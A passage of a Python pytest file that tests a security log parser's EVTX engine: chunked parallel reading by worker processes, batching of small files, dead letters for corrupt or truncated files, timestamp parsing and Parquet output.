    for key, frame in fa.items():
        assert frame.equals(fb[key]), key  # same rows in the same order
    assert (da is None) == (db is None)
    if da is not None:
        assert da.sort("log.line").equals(db.sort("log.line"))


def test_pieces_cover_every_chunk_slot(corpora, in_pieces):
    from soc.parse.engines.evtx import HEADER_SIZE, chunk_ranges, pieces

    path = corpora / MANY_CHUNKS
    chunks = chunk_ranges(str(path))
    cut = pieces(path.stat().st_size, chunks, 40, 2)
    assert len(cut) > 10
    assert cut[0][0] == HEADER_SIZE and cut[-1][1] == path.stat().st_size
    assert all(a[1] == b[0] for a, b in zip(cut, cut[1:], strict=False))  # contiguous, no slot left out
    assert [c for p in cut for c in p[2]] == chunks
    assert pieces(path.stat().st_size, chunks, 40, 1) == []  # one process: not cut


def test_pieces_read_by_workers_give_the_same_frames(corpora, monkeypatch, in_pieces):
    from soc.parse.engines import evtx as engine

    paths = [corpora / MANY_CHUNKS, corpora / SMALL, corpora / ATTACK / CASES[0][0]]
    for worker in engine._workers():  # started and ready before the run, so they take pieces from its start
        assert worker.call(("ready",)) is not None
    reads = []
    real = engine._Worker.call

    def counted(self, task):
        reply = real(self, task)
        if task[0] == "read_piece":
            reads.append(reply is not None)
        return reply

    monkeypatch.setattr(engine._Worker, "call", counted)
    parallel = parse(paths, specs=in_pieces)
    # pieces were read by the worker processes (how many depends on the machine's load: this process reads
    # the next free piece itself while it waits for a worker's)
    assert reads and all(reads)
    with monkeypatch.context() as m:
        m.setenv(engine.PROCESSES_ENV, "1")
        serial = parse(paths, specs=in_pieces)
    assert parallel[0][0].read == 998 and parallel[0][0].dead == 0
    _same(parallel, serial)
    whole = parse(paths)  # one batch a file, one process
    for key, frame in whole[1].items():
        assert frame.sort("log.line").equals(parallel[1][key].sort("log.line")), key


def test_a_run_reads_the_next_files_ahead_each_piece_once(corpora, monkeypatch, tmp_path, in_pieces):
    """In a run, the workers (and this process, while it waits for them) read the pieces of the next EVTX
    files ahead, small files whole; a file that is not EVTX is left out. Every piece is read exactly once
    and the results are those of one process."""
    from soc.parse.engines import evtx as engine

    text = tmp_path / "auth.log"
    text.write_text("Nov 20 03:13:04 host sshd[1]: Failed password for root from 203.0.113.45 port 22 ssh2\n")
    paths = [corpora / MANY_CHUNKS, text, corpora / SMALL, corpora / ATTACK / CASES[0][0], corpora / MANY_CHUNKS]
    read: list[tuple[str, int]] = []
    real_call, real_here, real_piece = engine._Worker.call, engine._read_here, engine.EvtxEngine._piece

    def call(self, task):
        reply = real_call(self, task)
        if task[0] == "read_piece":
            read.append((task[1], task[2][0]))
        return reply

    def here(path, piece, batch):
        read.append((path, piece[0]))
        return real_here(path, piece, batch)

    def piece(self, path, p):
        read.append((path, p[0]))
        return real_piece(self, path, p)

    monkeypatch.setattr(engine._Worker, "call", call)
    monkeypatch.setattr(engine, "_read_here", here)
    monkeypatch.setattr(engine.EvtxEngine, "_piece", piece)
    ahead = parse(paths, specs=in_pieces)
    with monkeypatch.context() as m:
        m.setenv(engine.PROCESSES_ENV, "1")
        serial = parse(paths, specs=in_pieces)
    _same(ahead, serial)
    stats = ahead[0]
    # the text file is not EVTX: an error, or (issue 16 item 13) skipped as a format not recognised
    assert len(stats) == 4 and (stats[1].error or getattr(stats[1], "skipped", None))
    assert all(s.error is None for s in stats[:1] + stats[2:])
    assert [s.read for s in stats] == [998, 0, serial[0][2].read, serial[0][3].read] and stats[0].dead == 0
    expected = []
    for path in (corpora / MANY_CHUNKS, corpora / SMALL, corpora / ATTACK / CASES[0][0]):
        chunks = engine.chunk_ranges(str(path))
        cut = engine.pieces(path.stat().st_size, chunks, 40, 2) or [(engine.HEADER_SIZE, 0, chunks)]
        expected += [(str(path), p[0]) for p in cut]
    assert sorted(read) == sorted(expected)  # the duplicate path is one input (discover), read once


def test_an_engine_outside_a_run_has_a_large_file_read_in_pieces(corpora, monkeypatch, in_pieces):
    """The engine called on its own (no run, so no read-ahead): it cuts a large file itself and the workers
    help read it; the records are those of a run."""
    from soc.parse.columns import Context
    from soc.parse.engines import evtx as engine
    from soc.schema import time as T

    path = corpora / MANY_CHUNKS
    calls = []
    real = engine._Worker.call

    def counted(self, task):
        calls.append(task[0])
        return real(self, task)

    monkeypatch.setattr(engine._Worker, "call", counted)
    spec = in_pieces[SPEC.name]
    alone = engine.EvtxEngine(spec, Context(str(path), None, T.reference_time(None, None)))
    results = list(alone.read(None, str(path)))
    assert calls.count("read_piece") > 5
    assert sum(r.lines for r in results) == 998 and not any(r.dead.height for r in results)
    frames: dict = {}
    for r in results:
        for key, frame in r.frames.items():
            frames.setdefault(key, []).append(frame)
    _, in_run, _ = parse([path], specs=in_pieces)
    assert set(frames) == set(in_run)
    for key, parts in frames.items():
        assert pl.concat(parts, how="diagonal_relaxed").equals(in_run[key]), key


def test_pieces_keep_dead_letters_of_truncated_and_corrupt_chunks(corpora, tmp_path, monkeypatch, in_pieces):
    from soc.parse.engines import evtx as engine

    data = (corpora / MANY_CHUNKS).read_bytes()
    cut = tmp_path / "cut.evtx"
    cut.write_bytes(data[: 4096 + 20 * 65536 + 30_000])  # the 21st chunk ends half-way
    bad = bytearray(data)
    bad[4096 + 7 * 65536 + 2000: 4096 + 7 * 65536 + 2600] = b"\xff" * 600
    corrupt = tmp_path / "bad.evtx"
    corrupt.write_bytes(bytes(bad))
    parallel = parse([cut, corrupt], specs=in_pieces)
    with monkeypatch.context() as m:
        m.setenv(engine.PROCESSES_ENV, "1")
        serial = parse([cut, corrupt], specs=in_pieces)
    _same(parallel, serial)
    (st_cut, st_bad), _, dead = parallel
    for st in (st_cut, st_bad):
        assert st.error is None and st.read == st.parsed + st.dead and st.dead > 0
    assert set(dead["log.file.path"].unique()) == {str(cut), str(corrupt)}
    assert dead["error.message"].str.contains("truncated|Failed to parse chunk").all()
    assert (dead["event.original"].bin.size() > 0).any() and dead["log.line"].is_not_null().all()


def test_pieces_keep_dead_letters_of_garbage_chunk_slots(corpora, tmp_path, monkeypatch, in_pieces):
    """Issue 16 item 3 in pieces: a garbage slot among chunks read by workers gives the same dead letters
    (one per record id missing around it) as the file read in one process."""
    from soc.parse.engines import evtx as engine

    bad = bytearray((corpora / MANY_CHUNKS).read_bytes())
    bad[4096 + 9 * 65536: 4096 + 10 * 65536] = b"\x5a" * 65536
    garbage = tmp_path / "garbage.evtx"
    garbage.write_bytes(bytes(bad))
    parallel = parse([garbage], specs=in_pieces)
    with monkeypatch.context() as m:
        m.setenv(engine.PROCESSES_ENV, "1")
        serial = parse([garbage], specs=in_pieces)
    _same(parallel, serial)
    (st,), _, dead = parallel
    assert st.read == 998 and st.read == st.parsed + st.dead and st.dead > 0
    assert dead["error.message"].str.contains(f"chunk at byte {4096 + 9 * 65536} is not an EVTX chunk").all()


def test_a_worker_that_dies_leaves_its_pieces_to_this_process(corpora, monkeypatch, in_pieces):
    from soc.parse.engines import evtx as engine

    dead_workers = []

    def killed():
        worker = engine._Worker()
        worker.proc.kill()
        worker.proc.wait()
        dead_workers.append(worker)
        return [worker]

    monkeypatch.setattr(engine, "_workers", killed)
    broken = parse([corpora / MANY_CHUNKS], specs=in_pieces)
    assert dead_workers
    with monkeypatch.context() as m:
        m.setenv(engine.PROCESSES_ENV, "1")
        serial = parse([corpora / MANY_CHUNKS], specs=in_pieces)
    _same(broken, serial)


def test_time_created_fast_parser_agrees_with_iso8601():
    """The engine's Numba parser of TimeCreated gives Polars' ISO 8601 value, or declines (the spec's rule
    then reads the text)."""
    import numpy as np

    from soc.parse.evtx_kernel import utc_times
    from soc.schema import time as T

    texts = ["2019-03-19T23:34:25.2938201Z", "2019-03-19T23:34:25.293820Z", "2019-03-19T23:34:25.293820999Z",
             "2019-03-19T23:34:25Z", "2019-03-19T23:34:25.1Z", "2020-02-29T00:00:00.000Z", "1601-01-01T00:00:00Z",
             "2023-02-29T00:00:00Z", "2019-03-19T23:34:60Z", "2019-03-19 23:34:25Z", "2019-03-19T23:34:25",
             "2019-03-19T23:34:25+07:00", "2019-03-19T23:34:25.Z", "2019-03-19T23:34:25.1234567890Z",
             "2019-13-19T23:34:25Z", "2019-03-19T24:00:00Z", "", "x" * 25]
    buf = np.frombuffer(bytearray("".join(texts).encode()), np.uint8)  # writable as the engine's
    ends = np.cumsum([len(t) for t in texts]).astype(np.int64)
    starts = ends - np.array([len(t) for t in texts], np.int64)
    us, ok = utc_times(buf, starts, ends)
    expected = pl.DataFrame({"t": texts}).select(T.iso8601(pl.col("t"), "UTC")).to_series()
    for text, value, took, want in zip(texts, us.tolist(), ok.tolist(), expected.to_list(), strict=True):
        if took:
            assert pl.Series([value]).cast(T.UTC)[0] == want, text
    assert ok.tolist() == [True] * 7 + [False] * 11
    absent, _ = utc_times(buf, np.array([-1], np.int64), np.array([-1], np.int64))
    assert absent.tolist() == [0]


def test_workers_by_default_only_with_a_cpu_to_spare(monkeypatch):
    from soc.parse.engines import evtx as engine

    monkeypatch.delenv(engine.PROCESSES_ENV, raising=False)
    monkeypatch.setattr(engine.os, "sched_getaffinity", lambda pid: {0, 1}, raising=False)
    monkeypatch.setattr(engine.os, "getloadavg", lambda: (0.4, 0.4, 0.4))
    assert engine.processes() == 2
    monkeypatch.setattr(engine.os, "getloadavg", lambda: (1.8, 1.0, 1.0))
    assert engine.processes() == 1  # the CPUs are busy: a worker would run instead of this process
    monkeypatch.setenv(engine.PROCESSES_ENV, "3")
    assert engine.processes() == 3


# --- small files of a run read together (issue 18): one batch of records for hundreds of files ---

class Logged(Keep):
    """``Keep`` that also logs which input each write names and the inputs closed."""

    def __init__(self):
        super().__init__()
        self.writes: list[tuple[str, set]] = []
        self.dead_writes: list[tuple[str, set]] = []
        self.closed: list[str] = []

    def write(self, source_path, family, dataset, frame):
        super().write(source_path, family, dataset, frame)
        self.writes.append((source_path, set(frame["log.file.path"].cast(pl.String))))

    def write_dead(self, source_path, dead):
        super().write_dead(source_path, dead)
        if dead.height:
            self.dead_writes.append((source_path, set(dead["log.file.path"])))

    def close_source(self, source_path):
        self.closed.append(source_path)


def _run(paths: list[Path], specs=SPECS) -> tuple[list[pipeline.SourceStats], Logged]:
    sink = Logged()
    return pipeline.run(discover([str(p) for p in paths]), sink, specs=specs), sink


def _broken_files(corpora: Path, tmp_path: Path) -> list[Path]:
    """A truncated file, one with a corrupt chunk, one with a garbage slot, and one the package refuses."""
    data = (corpora / SMALL).read_bytes()
    cut = tmp_path / "cut.evtx"
    cut.write_bytes(data[: 4096 + 65536 + 30_000])
    bad = bytearray(data)
    bad[4096 + 65536 + 2000: 4096 + 65536 + 2600] = b"\xff" * 600
    corrupt = tmp_path / "corrupt.evtx"
    corrupt.write_bytes(bytes(bad))
    slot = bytearray((corpora / MANY_CHUNKS).read_bytes())
    slot[4096 + 9 * 65536: 4096 + 10 * 65536] = b"\x5a" * 65536
    garbage = tmp_path / "garbage.evtx"
    garbage.write_bytes(bytes(slot))
    fake = tmp_path / "fake.evtx"
    fake.write_bytes(b"ElfFile\x00" + b"\x00" * 100)
    return [cut, corrupt, garbage, fake]


def _same_as_alone(monkeypatch, paths, together, sink, specs=SPECS) -> None:
    """Each input's counts, frames and dead letters are those of the inputs read one by one."""
    from soc.parse.engines import evtx as engine

    with monkeypatch.context() as m:
        m.setattr(engine, "MIN_PIECE", 0)  # no file is small: each read alone, the one-file way
        m.setenv(engine.PROCESSES_ENV, "1")
        alone, one_sink = _run(paths, specs)
    fields = ("path", "format", "read", "parsed", "dead", "bytes", "first", "last", "events", "error", "skipped")
    assert [[getattr(s, f) for f in fields] for s in together] == [[getattr(s, f) for f in fields] for s in alone]
    assert set(sink.frames) == set(one_sink.frames)
    for key, parts in one_sink.frames.items():
        want = pl.concat(parts, how="diagonal_relaxed")
        got = pl.concat(sink.frames[key], how="diagonal_relaxed")
        assert set(got.columns) == set(want.columns), key
        assert got.select(want.columns).sort("log.file.path", "log.line", maintain_order=True).equals(
            want.sort("log.file.path", "log.line", maintain_order=True)), key
    assert bool(sink.dead) == bool(one_sink.dead)
    if sink.dead:
        order = ("log.file.path", "log.line", "log.offset")
        assert pl.concat(sink.dead).sort(order, maintain_order=True).equals(
            pl.concat(one_sink.dead).sort(order, maintain_order=True))
    assert sorted(sink.closed) == sorted(one_sink.closed) == sorted({s.path for s in alone})  # each once


def test_small_files_are_typed_together_and_each_keeps_its_own_counts(corpora, tmp_path, monkeypatch):
    """A run's small files are one batch: a frame holds rows of several files (``log.file.path`` says which),
    yet each input's counts, first and last times, and dead letters (a broken file among good ones) are
    exactly those of the file read alone; dead letters are written per input; no worker process starts."""
    from soc.parse.engines import evtx as engine

    started = []
    good = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")[:40]
    broken = _broken_files(corpora, tmp_path)
    paths = good[:10] + broken[:2] + good[10:30] + broken[2:] + good[30:]
    with monkeypatch.context() as m:
        m.setattr(engine, "_Worker", lambda: started.append(1))
        m.setattr(engine, "processes", lambda: 2)  # workers would be welcome, if a file needed them
        m.setattr(engine, "MANY_RECORDS", 1 << 20)  # one batch (a folder is cut in batches of ~4 k records)
        together, sink = _run(paths)
    assert not started
    assert all(s.read == s.parsed + s.dead for s in together)
    assert [s.dead > 0 for s in together] == [p in broken for p in paths]
    assert max(len(files) for _, files in sink.writes) > 10
    assert all(files == {path} for path, files in sink.dead_writes)
    _same_as_alone(monkeypatch, paths, together, sink)


def test_a_file_that_fails_in_a_batch_is_read_alone(corpora, tmp_path, monkeypatch):
    """A file whose reading raises is read again alone (its error its own); if typing the batch fails, each
    of its files is read alone: the results are those of one file at a time either way."""
    from soc.parse.engines import evtx as engine

    paths = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")[:12] + _broken_files(corpora, tmp_path)[:1]
    real_file, real_batch = engine.EvtxEngine._file, engine.EvtxEngine._batch
    failed_reads, failed_batches = [], []

    def file_(self, path):
        if path == str(paths[3]) and not failed_reads:
            failed_reads.append(path)
            raise RuntimeError("boom")
        return real_file(self, path)

    def batch(self, *args):
        if len(self.paths) > 1:
            failed_batches.append(len(self.paths))
            raise RuntimeError("boom")
        return real_batch(self, *args)

    with monkeypatch.context() as m:
        m.setattr(engine.EvtxEngine, "_file", file_)
        together, sink = _run(paths)
    assert failed_reads and not any(s.error for s in together)
    _same_as_alone(monkeypatch, paths, together, sink)
    with monkeypatch.context() as m:
        m.setattr(engine.EvtxEngine, "_batch", batch)
        together, sink = _run(paths)
    assert failed_batches == [len(paths)]
    _same_as_alone(monkeypatch, paths, together, sink)


def test_small_files_are_batched_up_to_the_batch_size(corpora, tmp_path, monkeypatch):
    """Batches of whole files, at most ``batch`` records each (a file of a batch or more is read alone)."""
    import dataclasses

    small = {SPEC.name: dataclasses.replace(SPEC, options={**SPEC.options, "batch": 300})}
    paths = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")[:30]
    together, sink = _run(paths, small)
    assert 3 < len({path for path, _ in sink.writes}) < len(paths)
    by_path = {s.path: s.read for s in together}
    firsts = list(dict.fromkeys(path for path, _ in sink.writes))
    for path in firsts:
        batch = {f for p, files in sink.writes if p == path for f in files}
        assert sum(by_path[f] for f in batch) <= 300 or batch == {path}
    _same_as_alone(monkeypatch, paths, together, sink, small)


def test_parquet_sink_of_small_files_read_together(corpora, tmp_path):
    """``soc parse`` of a folder of small EVTX files: frames of several inputs are written under the first
    input of their batch (their ``log.file.path`` says which), dead letters under their own input, and every
    file is complete (published, nothing left being written) when the run ends."""
    from soc.sinks.parquet import ParquetSink, file_stem, read_family

    good = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")[:25]
    broken = _broken_files(corpora, tmp_path)[:1]
    paths = good + broken
    out = tmp_path / "out"
    sink = ParquetSink(out)
    stats = pipeline.run(discover([str(p) for p in paths]), sink, specs=SPECS)
    frame = read_family(out, "windows").collect()
    assert frame.height == sum(s.parsed for s in stats)
    assert set(frame["log.file.path"].cast(pl.String)) == {str(p) for p in paths}
    dead = sorted(p.name for p in (out / "dead_letters").glob("*.parquet"))
    assert dead == [f"{file_stem(str(broken[0]))}.parquet"]
    assert pl.read_parquet(out / "dead_letters" / dead[0]).height == stats[-1].dead > 0
    assert not sink._writers and not list((out / ".tmp").glob("*"))
